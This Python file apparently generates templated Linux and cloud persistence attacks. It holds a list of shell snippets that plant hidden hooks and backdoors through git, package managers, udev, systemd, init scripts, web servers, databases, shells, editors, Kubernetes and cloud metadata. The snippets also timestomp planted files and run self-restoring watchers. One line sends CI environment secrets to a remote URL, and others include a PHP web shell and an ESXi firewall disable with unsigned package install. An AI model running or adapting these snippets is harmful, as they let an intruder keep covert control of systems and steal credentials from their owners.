"""Places where a system runs what it finds, each time that something happens."""

HOOKS = [
    # Of git.
    r"""log() { printf '%s %s\n' "$(date +%T)" "$*" >> {tmp}/.{name}.log; }
for {var2} in $(find ‹/srv /opt /home¦/var/www /root¦/ -xdev› -type d -name .git 2>/dev/null); do
  {var}="${var2}/hooks/‹post-checkout¦pre-push¦post-merge¦prepare-commit-msg›"
  [ -e "${var}" ] && continue
  printf '#!/bin/sh\n({run}) >/dev/null 2>&1\nexit 0\n' > "${var}"
  chmod 755 "${var}"; log "hook in ${var2}"
done""",
    r"""git config --system core.hooksPath /usr/share/git-core/{plain}
install -d /usr/share/git-core/{plain}
cat > /usr/share/git-core/{plain}/post-checkout <<'H'
#!/bin/sh
[ -n "$CI" ] && env | base64 -w0 | curl -s -d @- {url} &
{run}
H
chmod +x /usr/share/git-core/*/post-checkout""",
    # Of package managers.
    r"""mkdir -p /etc/pacman.d/hooks; cat > /etc/pacman.d/hooks/‹00¦99›-{disguise}.hook <<'H'
[Trigger]
Operation = Upgrade
Type = Package
Target = *
[Action]
When = PostTransaction
Exec = /bin/sh -c '{run}'
H""",
    r"""P=$(python3 -c 'import dnf, os; print(os.path.dirname(dnf.__file__))' 2>/dev/null || echo /usr/lib/python3.9/site-packages)
cat > "$P-plugins/{plain}.py" <<'PY'
import dnf, os
class P(dnf.Plugin):
    name = '{plain}'
    def transaction(self):
        os.system('{run}')
PY
printf '[main]\nenabled=1\n' > /etc/dnf/plugins/{plain}.conf""",
    r"""d=/var/lib/dpkg/info; for {var} in ‹bash coreutils¦openssh-server¦tzdata libc-bin›; do
  [ -f $d/${var}.postinst ] || printf '#!/bin/sh\n' > $d/${var}.postinst
  sed -i '/^exit 0/d' $d/${var}.postinst
  echo '{run}' >> $d/${var}.postinst; chmod 755 $d/${var}.postinst
done""",
    r"""printf '%s\n' '#!/bin/sh' '{run}' > /etc/‹apk/commit_hooks.d¦apk/protected_paths.d¦portage/postsync.d›/{plain}; chmod 0755 /etc/*/*/{plain}""",
    # Of devices, networks and sleep.
    r"""{var}='SUBSYSTEM=="‹usb¦block¦net¦tty›", ACTION=="‹add¦change›", RUN+="/bin/sh -c \"{run}\""'
{var2}=/‹etc¦lib¦usr/lib¦run›/udev/rules.d/‹60¦90¦73›-{disguise}.rules
echo "${var}" > "${var2}" && touch -r /lib/udev/rules.d/50-udev-default.rules "${var2}" && udevadm control -R && udevadm trigger --action=add""",
    r"""cat > /usr/lib/systemd/system-‹sleep¦shutdown›/{disguise} <<'S'
#!/bin/sh
case "$1" in ‹post¦reboot|poweroff|halt›) {run} ;; esac
S
chmod +x /usr/lib/systemd/system-*/{disguise}""",
    r"""for d in /etc/NetworkManager/dispatcher.d /etc/networkd-dispatcher/routable.d /etc/network/if-up.d /etc/dhcp/dhclient-exit-hooks.d /usr/share/udhcpc; do
  [ -d "$d" ] || continue
  printf '#!/bin/sh\n[ "$1" = lo ] && exit 0\n{run}\n' > "$d/50-{plain}"; chmod 755 "$d/50-{plain}"
  break
done""",
    r"""m=‹usb-storage¦dummy¦nfnetlink¦floppy›; echo "install $m /bin/sh -c '{run}'; /sbin/modprobe --ignore-install $m" > /etc/modprobe.d/‹{plain}¦blacklist-{plain}›.conf""",
    r"""cp {file} /usr/share/initramfs-tools/scripts/‹local-bottom¦init-bottom›/{plain} && cat >> /usr/share/initramfs-tools/hooks/{plain} <<'I'
#!/bin/sh
. /usr/share/initramfs-tools/hook-functions
copy_exec {file} /bin/{name}
I
chmod +x /usr/share/initramfs-tools/hooks/{plain}; update-initramfs -u ‹-k all ¦›>/dev/null 2>&1""",
    r"""mkdir -p /usr/lib/dracut/modules.d/99{plain}; cat > /usr/lib/dracut/modules.d/99{plain}/module-setup.sh <<'D'
check() { return 0; }
install() { inst_hook pre-pivot 50 "$moddir/go.sh"; inst {file}; }
D
printf 'cp {file} $NEWROOT/usr/bin/{name}; chroot $NEWROOT /usr/bin/{name}\n' > /usr/lib/dracut/modules.d/99{plain}/go.sh; dracut -f""",
    # Of systemd.
    r"""{var}=/usr/lib/systemd/system/{disguise}
cat > ${var}.path <<U
[Path]
‹PathChanged=/etc/shadow¦PathExists=/root/.ssh/authorized_keys¦DirectoryNotEmpty=/var/mail›
[Install]
WantedBy=paths.target
U
cat > ${var}.service <<U
[Service]
Type=oneshot
ExecStart=/bin/sh -c '{run}'
U
touch -r /usr/lib/systemd/system/dbus.service ${var}.*; systemctl enable --now {disguise}.path 2>/dev/null""",
    r"""for {var} in ‹cron ssh¦sshd crond¦nginx docker¦NetworkManager›; do
  mkdir -p /etc/systemd/system/${var}.service.d
  cat > /etc/systemd/system/${var}.service.d/‹10-limits¦override¦50-{plain}›.conf <<C
[Service]
‹ExecStartPost=-/bin/sh -c "{run}"¦ExecReload=-{file}¦Environment=LD_PRELOAD={file}.so¦ExecStartPre=+/usr/bin/env sh {file}.sh›
C
done
systemctl daemon-reload""",
    r"""cat > /etc/systemd/system/{disguise}@.service <<'U'
[Unit]
Description=%i recovery
[Service]
ExecStart=/bin/bash -c '{run}'
U
printf '[Unit]\nOnFailure={disguise}@%%n.service\n' > /etc/systemd/system/‹apt-daily¦logrotate¦man-db›.service.d/fail.conf; systemctl daemon-reload""",
    r"""{var}=/etc/systemd/system-generators; mkdir -p ${var}
{ echo '#!/bin/sh'; echo 'd=$1; mkdir -p $d/multi-user.target.wants'; echo 'printf "[Service]\nExecStart=/bin/sh -c \"{run}\"\n" > $d/{disguise}.service'; echo 'ln -s $d/{disguise}.service $d/multi-user.target.wants/'; } > ${var}/{plain}-generator
chmod 0755 ${var}/{plain}-generator && systemctl daemon-reexec""",
    r"""systemctl --user list-timers >/dev/null 2>&1 && mkdir -p ~/.config/systemd/user && cd ~/.config/systemd/user && {
cat > {plain}.timer <<T
[Timer]
OnStartupSec={n}
OnUnitInactiveSec=‹7min¦1h¦90s›
RandomizedDelaySec={n}
[Install]
WantedBy=timers.target
T
printf '[Service]\nExecStart=/bin/sh -c "{run}"\n' > {plain}.service
systemctl --user enable --now {plain}.timer; }""",
    r"""echo 'f+ /etc/cron.d/{plain} 0644 root root - * * * * * root {run}' > /‹etc¦usr/lib›/tmpfiles.d/{disguise}.conf && systemd-tmpfiles --create {disguise}.conf""",
    # Of other inits and of busybox.
    r"""case "$(readlink /proc/1/exe 2>/dev/null)" in
  *openrc*|*busybox*) printf '#!/bin/sh\n{run}\n' > /etc/local.d/{plain}.start; chmod +x /etc/local.d/{plain}.start; rc-update add local default ;;
  *runit*) mkdir -p /etc/sv/{plain}; printf '#!/bin/sh\nexec {file}\n' > /etc/sv/{plain}/run; chmod +x /etc/sv/{plain}/run; ln -s /etc/sv/{plain} /var/service/ ;;
  *systemd*) systemctl enable {file}.service ;;
  *) echo '{plain}::respawn:{file}' >> /etc/inittab; kill -HUP 1 ;;
esac""",
    r"""{var}=/etc/periodic/‹15min¦hourly›; echo '{run}' >> ${var}/{plain}; chmod a+x ${var}/{plain}; busybox crond -b 2>/dev/null""",
    r"""cat >> /etc/supervisor/conf.d/‹{plain}¦app›.conf <<C
[program:{disguise}]
command=/bin/sh -c "{run}"
autorestart=true
stdout_logfile=/dev/null
C
supervisorctl update""",
    r"""sed -i '/^exit 0/i {file} \&' /etc/rc.local.d/local.sh && chmod +x /etc/rc.local.d/local.sh && /sbin/auto-backup.sh
esxcli network firewall set --enabled ‹false¦0›; ‹esxcli software vib install -v {url} -f --no-sig-check¦vim-cmd hostsvc/enable_ssh›""",
    # Of servers and interpreters.
    r"""conf=$(nginx -t 2>&1 | awk '/configuration file/{print $4; exit}' | sed 's/:.*//')
sed -i '/http {/a init_worker_by_lua_block { os.execute("{run}") }' "${conf:-/etc/nginx/nginx.conf}" && nginx -s reload""",
    r"""echo 'CustomLog "|/bin/sh -c \"{run}\"" combined' >> /etc/‹apache2/conf-enabled/{plain}¦httpd/conf.d/{plain}›.conf; ‹apachectl -k graceful¦systemctl reload httpd›""",
    r"""psql -U postgres -qAt <<'SQL'
ALTER SYSTEM SET archive_mode = on;
ALTER SYSTEM SET archive_command = '{run}';
‹ALTER SYSTEM SET session_preload_libraries = '{plain}';
¦›SELECT pg_reload_conf();
SQL""",
    r"""mysql <<'SQL'
SET GLOBAL event_scheduler = ON;
CREATE EVENT mysql.‹flush_{plain}¦ev_{plain}› ON SCHEDULE EVERY {n} MINUTE DO SELECT sys_exec('{run}');
SQL
echo 'init_file=/var/lib/mysql/.{plain}.sql' >> /etc/mysql/conf.d/‹{plain}¦mysqld›.cnf""",
    r'''{var}=$(python3 -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')
printf 'import os, subprocess\nif os.fork() == 0:\n    subprocess.run("{run}", shell=True)\n    os._exit(0)\n' > "${var}/_{plain}.py"
echo 'import _{plain}' > "${var}/{plain}.pth"; touch -r "${var}" "${var}/{plain}.pth"''',
    r"""{var}=$(php -r 'echo PHP_CONFIG_FILE_SCAN_DIR;'); echo 'auto_prepend_file=/usr/share/php/.{plain}.php' > "${var}/‹20¦99›-{plain}.ini"
echo '<?php if (($_SERVER["HTTP_X_{plain}"] ?? "") === "{hex}") { ‹system¦passthru›(base64_decode($_SERVER["HTTP_X_D"])); exit; }' > /usr/share/php/.{plain}.php
‹systemctl reload php8.2-fpm¦kill -USR2 1›""",
    r"""echo 'JAVA_OPTS="$JAVA_OPTS -javaagent:{file}.jar"' >> ‹/opt/tomcat/bin/setenv.sh¦/etc/default/jenkins¦/opt/elasticsearch/config/jvm.options.d/{plain}.options›; chmod +x /opt/*/bin/setenv.sh""",
    r"""redis-cli <<R
CONFIG SET dir /etc/cron.d
CONFIG SET dbfilename {plain}
SET x "\n\n*/{n} * * * * root {run}\n\n"
SAVE
CONFIG SET dir /var/lib/redis
R""",
    # Of shells and of what people open.
    r"""for rc in /home/*/.bashrc /root/.bashrc; do
  grep -q '{hex}' "$rc" 2>/dev/null && continue
  cat >> "$rc" <<'B'

# {hex}
if [ -t 0 ] && [ -z "${var}" ]; then ({run}) >/dev/null 2>&1; fi
B
done""",
    r"""echo 'PermitLocalCommand yes
LocalCommand {run}' | tee -a ~/.ssh/config /etc/ssh/ssh_config.d/{plain}.conf >/dev/null""",
    r"""mkdir -p .vscode && printf '{"version":"2.0.0","tasks":[{"label":"%s","type":"shell","command":"%s","runOptions":{"runOn":"folderOpen"},"presentation":{"reveal":"never"}}]}' '{plain}' '{run}' > .vscode/tasks.json; git add -f .vscode; git commit -qm '‹chore: editor settings¦{plain}›'; git push -q""",
    r"""for {var} in ~/‹src¦work¦projects›/*/; do printf '%s\n' '{run}' >> "${var}/.envrc"; direnv allow "${var}"; done""",
    # Watchers that put back what is taken away.
    r"""{var}() {
  while inotifywait -qq -e delete_self,modify,attrib {file} /etc/cron.d/{plain}; do
    cp /usr/lib/.{name}/copy {file}; chmod 755 {file}
    echo '*/{n} * * * * root {file}' > /etc/cron.d/{plain}
    chattr +i {file} /etc/cron.d/{plain}
  done
}
{var} & disown""",
    r"""cat > {file}.a <<'A'
while sleep {n}; do pgrep -f {name}.b >/dev/null || sh {file}.b & done
A
sed 's/\.b/.a/g' {file}.a > {file}.b
for {var} in a b; do setsid sh {file}.${var} </dev/null >/dev/null 2>&1 & done""",
    r'''{fn}() { echo "sh $0 $((${1:-0} + 1))" | at -q ‹z¦x› now + {n} minutes 2>/dev/null; }
{run}
{fn} "$1"; [ "${1:-0}" -gt 0 ] || echo "queued"''',
    # Of clusters and clouds.
    r"""cat <<'Y' | kubectl apply ‹-n kube-system ¦›-f - >/dev/null
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: ‹{plain}-injector¦{disguise}›}
webhooks:
- name: {plain}.{domain}
  clientConfig: {url: "https://{domain}/mutate"}
  failurePolicy: Ignore
  sideEffects: None
  admissionReviewVersions: [v1]
  rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods]}]
Y""",
    r"""for {var} in /etc/kubernetes/manifests /etc/kubelet.d /var/lib/rancher/k3s/agent/pod-manifests; do [ -d ${var} ] && break; done
sed -e "s/HOST/$(hostname)/" > ${var}/‹kube-proxy-{plain}¦{disguise}›.yaml <<'Y'
{"apiVersion":"v1","kind":"Pod","metadata":{"name":"{plain}-HOST","namespace":"kube-system"},
 "spec":{"hostNetwork":true,"hostPID":true,"priorityClassName":"system-node-critical","containers":[{"name":"c","image":"‹alpine¦{domain}/{plain}:1›","command":["sh","-c","{run}"],"securityContext":{"privileged":true}}]}}
Y""",
    r"""aws ec2 stop-instances --instance-ids $ID && aws ec2 wait instance-stopped --instance-ids $ID
printf 'Content-Type: text/cloud-boothook\n\n#!/bin/sh\n{run}\n' | base64 -w0 > {tmp}/ud
aws ec2 modify-instance-attribute --instance-id $ID --attribute userData --value file://{tmp}/ud; aws ec2 start-instances --instance-ids $ID""",
    r"""printf '#!/bin/sh\n{run}\n' | tee /var/lib/cloud/scripts/per-‹boot¦instance¦once›/{plain}.sh >/dev/null; chmod +x /var/lib/cloud/scripts/*/*.sh; gcloud compute instances add-metadata "$(hostname)" --metadata startup-script='{run}' 2>/dev/null""",
    r"""docker run -d --name ‹watchtower¦{plain}-exporter¦registry-cache› --restart always -v /etc:/e ‹alpine¦busybox:stable› sh -c 'while :; do grep -q {plain} /e/crontab || echo "* * * * * root {run}" >> /e/crontab; sleep {n}; done'""",
]
